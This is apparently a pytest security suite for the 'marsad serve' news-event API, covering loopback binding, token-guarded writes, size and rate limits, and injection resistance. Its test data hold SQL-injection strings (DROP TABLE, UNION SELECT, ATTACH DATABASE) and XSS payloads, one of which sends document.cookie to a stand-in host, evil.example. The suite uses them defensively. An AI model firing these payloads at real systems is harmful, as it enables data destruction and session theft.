"""`marsad serve`, the real command, against an unfriendly client.

It listens on loopback only by default; reads are open; every write needs the bearer token;
oversize bodies get 413 and write floods 429; SQL injection in any parameter is just a value
that matches nothing (and the database is untouched); markup in articles is stored and returned
as text inside JSON. (The browser-side XSS test is tests/test_web.py.)
"""
from __future__ import annotations

import json
import os
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

httpx = pytest.importorskip("httpx")

MARSAD = [sys.executable, "-c", "import sys; from marsad.cli import main; sys.exit(main(sys.argv[1:]))"]
TOKEN = "s3cret-token-for-tests-0123456789"
XSS_TEXT = ("قصفت طائرات حربية مدينة ادلب <script>alert('x')</script> وقتل 3 مدنيين "
            "<img src=x onerror=alert(1)> \"'</textarea><svg onload=alert(2)>")
XSS_TITLE = "<script>document.location='http://evil.example/?c='+document.cookie</script>"


def _record(i: int, text: str | None = None, title: str | None = None, outlet: str | None = None) -> dict:
    t = text or f"قصفت طائرات حربية مدينة ادلب صباح اليوم {i} وقتل {i % 5} مدنيين في ريف المدينة."
    trig, place = t.index("قصفت"), t.index("ادلب")
    return {"id": f"sec-{i}", "url": f"https://example.org/{i}", "outlet": outlet or f"outlet-{i % 3}",
            "published": f"2024-03-{1 + i % 28:02d}", "title": title or f"خبر {i}", "text": t,
            "entities": [{"id": "e1", "text": "ادلب", "start": place, "end": place + 4, "type": "GPE",
                          "canonical": {"ar": "ادلب", "en": "Idlib"}, "actor_code": "SYR", "wikidata": None}],
            "times": [], "quotes": [],
            "events": [{"id": "v1", "type": "ASSAULT", "mode": "aerial", "status": "actual", "contexts": [],
                        "trigger": {"text": "قصفت", "start": trig, "end": trig + 4},
                        "actor": None, "recipient": None,
                        "location": {"text": "ادلب", "start": place, "end": place + 4, "name": "Idlib",
                                     "name_ar": "ادلب", "country": "SYR", "admin1": "Idlib", "lat": 35.93,
                                     "lon": 36.63, "geonameid": 169389, "precision": "city"},
                        "date": {"value": f"2024-03-{1 + i % 28:02d}", "precision": "day", "from": "text"},
                        "size": {"dead": i % 5}, "confidence": 0.8}]}


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Served:
    def __init__(self, db: Path, port: int, proc: subprocess.Popen) -> None:
        self.db, self.port, self.proc = db, port, proc
        self.base = f"http://127.0.0.1:{port}"

    def client(self, **kw) -> httpx.Client:
        return httpx.Client(base_url=self.base, timeout=30, **kw)


@pytest.fixture(scope="module")
def served(tmp_path_factory) -> Iterator[Served]:
    from marsad.store.db import open_db
    from marsad.store.ingest import ingest_records

    d = tmp_path_factory.mktemp("serve")
    db_path = d / "serve.db"
    db = open_db(f"sqlite:///{db_path}")
    ingest_records(db, [_record(i) for i in range(40)])
    db.close()
    port = _free_port()
    env = {**os.environ, "MARSAD_WRITE_TOKEN": TOKEN}
    env.pop("MARSAD_DB", None)
    # the command as a user types it: no --host
    proc = subprocess.Popen([*MARSAD, "serve", "--db", f"sqlite:///{db_path}", "--port", str(port)],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env)
    deadline = time.monotonic() + 60
    while True:
        if proc.poll() is not None:
            pytest.fail(f"marsad serve exited: {proc.stdout.read()[-2000:]}")
        try:
            if httpx.get(f"http://127.0.0.1:{port}/api/health", timeout=1).status_code == 200:
                break
        except httpx.TransportError:
            pass
        if time.monotonic() > deadline:
            proc.kill()
            pytest.fail("marsad serve did not come up in 60 s")
        time.sleep(0.1)
    yield Served(db_path, port, proc)
    proc.terminate()
    try:
        proc.wait(timeout=10)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()


def _db_state(path: Path) -> dict:
    with closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as c:
        tables = sorted(r[0] for r in c.execute("SELECT name FROM sqlite_master WHERE type='table'"))
        counts = {t: c.execute(f'SELECT COUNT(*) FROM "{t}"').fetchone()[0] for t in tables}
        return {"tables": tables, "counts": counts, "check": c.execute("PRAGMA integrity_check").fetchone()[0]}


# ----------------------------------------------------------------------------- binding

def _listening(port: int) -> list[str]:
    """Local addresses of LISTEN sockets on `port`, from /proc/net/tcp{,6} (Linux)."""
    out = []
    for name, v6 in (("/proc/net/tcp", False), ("/proc/net/tcp6", True)):
        try:
            lines = Path(name).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            f = line.split()
            addr, p = f[1].split(":")
            if f[3] != "0A" or int(p, 16) != port:  # 0A = TCP_LISTEN
                continue
            raw = bytes.fromhex(addr)
            if v6:  # four little-endian 32-bit words
                raw = b"".join(raw[i:i + 4][::-1] for i in range(0, 16, 4))
                out.append(socket.inet_ntop(socket.AF_INET6, raw))
            else:
                out.append(socket.inet_ntoa(raw[::-1]))
    return out


def _own_addresses() -> set[str]:
    """This machine's non-loopback addresses (the one the default route uses, and the host name's)."""
    found = set()
    for fam, target in ((socket.AF_INET, ("10.255.255.255", 1)), (socket.AF_INET6, ("2001:db8::1", 1))):
        try:
            with socket.socket(fam, socket.SOCK_DGRAM) as s:
                s.connect(target)  # UDP connect sends nothing; it only picks the route
                found.add(s.getsockname()[0])
        except OSError:
            pass
    try:
        found |= {i[4][0] for i in socket.getaddrinfo(socket.gethostname(), None)}
    except OSError:
        pass
    return {a for a in found if not a.startswith("127.") and a not in ("::1", "0.0.0.0", "::")}


def test_serve_listens_on_loopback_only_by_default(served):
    if not Path("/proc/net/tcp").exists():
        pytest.skip("needs Linux /proc/net/tcp")
    assert _listening(served.port) == ["127.0.0.1"]
    assert "0.0.0.0" not in _listening(served.port) and "::" not in _listening(served.port)


def test_serve_is_not_reachable_on_other_interfaces(served):
    addrs = _own_addresses()
    if not addrs:
        pytest.skip("this machine has no non-loopback address")
    for a in addrs:
        fam = socket.AF_INET6 if ":" in a else socket.AF_INET
        with socket.socket(fam, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            assert s.connect_ex((a, served.port)) != 0, f"reachable on {a}"


# ----------------------------------------------------------------------------- reads and writes

READS = ["/", "/docs", "/openapi.json", "/api/health", "/api/events", "/api/events.csv", "/api/canonical",
         "/api/articles", "/api/actors", "/api/stats", "/api/places", "/api/facets", "/api/articles/sec-1"]


def test_reads_are_open(served):
    with served.client() as c:
        for path in READS:
            r = c.get(path)
            assert r.status_code == 200, (path, r.status_code)
        assert c.get("/api/events").json()["total"] >= 40
        assert c.get("/api/health").json()["writes"] is True


def _write_operations(c: httpx.Client) -> list[tuple[str, str]]:
    spec = c.get("/openapi.json").json()
    return [(m.upper(), p) for p, ops in spec["paths"].items() for m in ops
            if m.lower() in ("post", "put", "patch", "delete")]


def test_every_write_endpoint_needs_the_bearer_token(served):
    body = json.dumps({"records": [_record(1000)]})
    with served.client(headers={"content-type": "application/json"}) as c:
        before = c.get("/api/articles").json()["total"]
        writes = _write_operations(c)
        assert ("POST", "/api/ingest") in writes
        for method, path in writes:
            for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Bearer {TOKEN[:-1]}"},
                            {"Authorization": f"Basic {TOKEN}"}, {"Authorization": TOKEN},
                            {"Authorization": f"Bearer {TOKEN}x"}, {"X-Api-Key": TOKEN}):
                r = c.request(method, path, content=body, headers=headers)
                assert r.status_code in (401, 403), (method, path, headers, r.status_code)
        assert c.get("/api/articles").json()["total"] == before  # nothing got in
        r = c.post("/api/ingest", content=body, headers={"Authorization": f"Bearer {TOKEN}"})
        assert r.status_code == 200 and r.json()["added"] == 1, r.text
        assert c.get("/api/articles").json()["total"] == before + 1


def test_reads_do_not_accept_writes(served):
    with served.client() as c:
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            for path in ("/api/events", "/api/articles/sec-1", "/api/events/1", "/api/actors"):
                r = c.request(method, path, headers={"Authorization": f"Bearer {TOKEN}"})
                assert r.status_code == 405, (method, path, r.status_code)


def test_writes_are_refused_when_no_token_is_configured(tmp_path, monkeypatch):
    from fastapi.testclient import TestClient

    from marsad.api.app import create_app

    monkeypatch.delenv("MARSAD_WRITE_TOKEN", raising=False)
    app = create_app(f"sqlite:///{tmp_path / 'x.db'}")
    with TestClient(app) as c:
        for auth in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer None"}):
            assert c.post("/api/ingest", json=_record(1), headers=auth).status_code == 403


def test_oversize_requests_get_413(served):
    big = b'{"text": "' + b"x" * (3 * 1024 * 1024) + b'"}'
    auth = {"Authorization": f"Bearer {TOKEN}", "content-type": "application/json"}
    with served.client() as c:
        r = c.post("/api/ingest", content=big, headers=auth)
        assert r.status_code == 413
        # streamed with no Content-Length (chunked): counted as it arrives
        r = c.post("/api/ingest", content=(big[i:i + 65536] for i in range(0, len(big), 65536)), headers=auth)
        assert r.status_code == 413
        # an announced size over the limit is refused before the body is read
        assert _raw_status(served.port, "POST /api/ingest HTTP/1.1\r\nHost: x\r\n"
                           f"Authorization: Bearer {TOKEN}\r\nContent-Type: application/json\r\n"
                           "Content-Length: 99999999999\r\n\r\n{}") == 413
        # without the token, big bodies are refused as well (never 200, never 500)
        r = c.post("/api/ingest", content=big, headers={"content-type": "application/json"})
        assert r.status_code in (401, 413)
        # too many items in one body
        r = c.post("/api/ingest", json={"records": [{"text": "x"}] * 500}, headers=auth)
        assert r.status_code == 413
        assert c.get("/api/health").status_code == 200  # still serving


def _raw_status(port: int, request: str) -> int:
    """Send bytes httpx would refuse to send; return the response status."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(request.encode())
        head = s.recv(4096).decode("latin-1")
    return int(head.split()[1])


def test_write_floods_get_429_per_client(served):
    """Writes from one client are limited (30 a minute); another client is not affected; reads never."""
    body = {"records": [_record(2000)]}
    auth = {"Authorization": f"Bearer {TOKEN}"}
    try:
        with socket.socket() as probe:
            probe.bind(("127.0.0.3", 0))
    except OSError:
        pytest.skip("cannot use 127.0.0.3 as a second client address here")
    # a client of its own: connects from 127.0.0.3, so earlier tests' writes do not count
    transport = httpx.HTTPTransport(local_address="127.0.0.3")
    codes = []
    with httpx.Client(base_url=served.base, transport=transport, timeout=30) as flood:
        for _ in range(40):
            codes.append(flood.post("/api/ingest", json=body, headers=auth).status_code)
        r = flood.post("/api/ingest", json=body, headers=auth)
        assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1
        for _ in range(50):  # reads are not limited
            assert flood.get("/api/events", params={"limit": 1}).status_code == 200
    assert codes[:30] == [200] * 30 and set(codes[30:]) == {429}
    with served.client() as other:  # a different client still writes
        assert other.post("/api/ingest", json={"records": [_record(2001)]}, headers=auth).status_code == 200


# ----------------------------------------------------------------------------- SQL injection

INJECTIONS = [
    "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "1; DROP TABLE events; --", "'; DROP TABLE articles; --",
    "ASSAULT') OR ('a'='a", "SYR' UNION SELECT name, sql FROM sqlite_master --", "1) OR (1=1",
    "%' OR 1=1 --", "x'||(SELECT sqlite_version())||'", "'; ATTACH DATABASE '/tmp/pwn.db' AS p; --",
    "\\'; DELETE FROM actors; --", "admin'/*", "' AND SLEEP(5) --", "'; SELECT pg_sleep(5); --",
    "-date; DROP TABLE events", "date DESC, (SELECT 1)", "ادلب' OR '1'='1",
]
TEXT_FILTERS = {  # endpoint -> parameters that take free strings
    "/api/events": ["type", "mode", "country", "admin1", "actor", "q", "status", "outlet"],
    "/api/canonical": ["type", "mode", "country", "admin1", "actor", "q", "status", "outlet"],
    "/api/stats": ["type", "mode", "country", "admin1", "actor", "q", "status", "outlet"],
    "/api/places": ["type", "mode", "country", "admin1", "actor", "q", "status", "outlet"],
    "/api/events.csv": ["type", "country", "q", "outlet"],
    "/api/articles": ["q", "outlet"],
    "/api/actors": ["q", "type"],
}
TYPED = {"from": "2024-01-01", "to": "2024-12-31", "article": "1", "bbox": "30,30,40,40", "limit": "10",
         "offset": "0"}


def _total(r: httpx.Response) -> int:
    if r.headers["content-type"].startswith("text/csv"):
        return r.text.count("\n") - 1
    d = r.json()
    if "total" in d:
        return d["total"]
    if "items" in d:
        return len(d["items"])
    return sum(x.get("n", 0) for x in d.get("by_type", []))


def test_sql_injection_in_every_filter_is_just_a_value(served):
    before = _db_state(served.db)
    with served.client() as c:
        for path, params in TEXT_FILTERS.items():
            for p in params:
                for inj in INJECTIONS:
                    t0 = time.monotonic()
                    r = c.get(path, params={p: inj})
                    assert time.monotonic() - t0 < 4, (path, p, inj)  # no injected sleep ran
                    assert r.status_code == 200, (path, p, inj, r.status_code, r.text[:200])
                    assert _total(r) == 0, (path, p, inj)  # matches nothing: nothing stored looks like it
            for typed, value in TYPED.items():
                for inj in INJECTIONS[:6]:
                    r = c.get(path, params={typed: value + inj})
                    assert r.status_code in (200, 422), (path, typed, inj, r.status_code)
        for inj in INJECTIONS:  # sort keys and path parameters
            assert c.get("/api/events", params={"sort": inj}).json()["total"] > 0
            assert c.get("/api/canonical", params={"sort": inj}).status_code == 200
            assert c.get(f"/api/articles/{inj}").status_code == 404
            assert c.get(f"/api/events/{inj}").status_code in (404, 422)
            assert c.get(f"/api/canonical/{inj}").status_code in (404, 422)
    after = _db_state(served.db)
    assert after["tables"] == before["tables"] and after["check"] == "ok"
    assert after["counts"] == before["counts"]
    assert not Path("/tmp/pwn.db").exists()


def test_like_wildcards_in_text_filters_are_literal(served):
    with served.client() as c:
        for path, params in TEXT_FILTERS.items():
            for p in params:
                for w in ("%", "_", "%%", "\\", "_%_"):
                    assert _total(c.get(path, params={p: w})) == 0, (path, p, w)


def test_like_wildcards_in_actor_search_are_literal(served):
    with served.client() as c:
        for w in ("%", "_", "___"):
            assert c.get("/api/actors", params={"q": w}).json()["total"] == 0, w


def test_huge_integers_are_client_errors_not_server_errors(served):
    huge = "9" * 30
    with served.client() as c:
        for path, params in [(f"/api/articles/{huge}", {}), (f"/api/events/{huge}", {}),
                             (f"/api/canonical/{huge}", {}), ("/api/events", {"article": huge}),
                             ("/api/events", {"offset": huge}), ("/api/articles", {"offset": huge})]:
            r = c.get(path, params=params)
            assert r.status_code in (404, 422) or (r.status_code == 200 and _total(r) == 0), \
                (path, params, r.status_code)


def test_canonical_filters_are_applied_not_ignored(served):
    with served.client() as c:
        for p in ("status", "outlet"):
            assert c.get("/api/canonical", params={p: "no-such-value"}).json()["total"] == 0, p


def test_nul_bytes_in_filters_match_nothing(served):
    with served.client() as c:
        for p in ("admin1", "q", "actor"):
            r = c.get("/api/events", params={p: "\x00' OR 1=1"})
            assert r.status_code == 422 or (r.status_code == 200 and r.json()["total"] == 0), p


def test_control_characters_in_filters_are_refused(served):
    with served.client() as c:
        for path in ("/api/events", "/api/stats", "/api/articles", "/api/actors"):
            for bad in ("\x00", "a\x01b", "x\x1f", "\x7f"):
                r = c.get(path, params={"q": bad})
                assert r.status_code == 422, (path, repr(bad), r.status_code)
                assert r.headers["content-type"].startswith("application/json")
        assert c.get("/api/events", params={"q": "ادلب"}).status_code == 200  # ordinary text passes


def test_responses_forbid_content_sniffing(served):
    with served.client() as c:
        for path in ("/", "/api/events", "/api/events/999999999", "/api/facets", "/openapi.json",
                     "/api/events?limit=0"):
            assert c.get(path).headers.get("x-content-type-options") == "nosniff", path


def test_canonical_member_filters_select_by_member_events(served):
    with served.client() as c:
        everything = c.get("/api/canonical").json()["total"]
        if everything == 0:
            pytest.skip("no canonical events in the served database")
        actual = c.get("/api/canonical", params={"status": "actual"}).json()["total"]
        assert 0 < actual <= everything
        ev = c.get("/api/events", params={"limit": 1}).json()["items"][0]
        one = c.get("/api/canonical", params={"article": ev["article_id"]}).json()
        assert one["total"] >= 1 and all(
            any(src["article_id"] == ev["article_id"] for src in it["sources"]) for it in one["items"])


# ----------------------------------------------------------------------------- markup stays text

def test_markup_in_articles_is_stored_and_returned_as_json_text(served):
    rec = _record(3000, text=XSS_TEXT, title=XSS_TITLE, outlet="<b onmouseover=alert(3)>outlet</b>")
    rec["id"] = "<script>alert('id')</script>"
    auth = {"Authorization": f"Bearer {TOKEN}"}
    with served.client() as c:
        r = c.post("/api/ingest", json={"records": [rec]}, headers=auth)
        assert r.status_code == 200 and r.json()["added"] == 1, r.text
        r = c.get("/api/articles", params={"q": "onerror"})
        assert r.status_code == 200 and r.headers["content-type"].startswith("application/json")
        (item,) = r.json()["items"]
        r = c.get(f"/api/articles/{item['id']}")
        assert r.headers["content-type"].startswith("application/json")
        d = r.json()
        assert d["text"] == XSS_TEXT and d["title"] == XSS_TITLE  # stored verbatim, neither run nor mangled
        assert d["outlet"] == "<b onmouseover=alert(3)>outlet</b>"
        # the raw body is a JSON document: quotes inside the markup are escaped, nothing breaks out
        assert r.text.lstrip().startswith("{") and json.loads(r.text) == d
        assert "alert('x')</script>" in d["text"] and "\\\"'</textarea>" in r.text
        ev = c.get("/api/events", params={"outlet": "<b onmouseover=alert(3)>outlet</b>"}).json()["items"]
        assert len(ev) == 1
        # the CSV download is an attachment, never rendered inline
        r = c.get("/api/events.csv", params={"outlet": "<b onmouseover=alert(3)>outlet</b>"})
        assert r.headers["content-type"].startswith("text/csv") and "attachment" in r.headers["content-disposition"]
        # error messages that echo input are JSON too
        r = c.get("/api/articles/<script>alert(1)</script>")
        assert r.status_code == 404 and r.headers["content-type"].startswith("application/json")
        # the dashboard forbids inline script
        csp = c.get("/").headers["content-security-policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
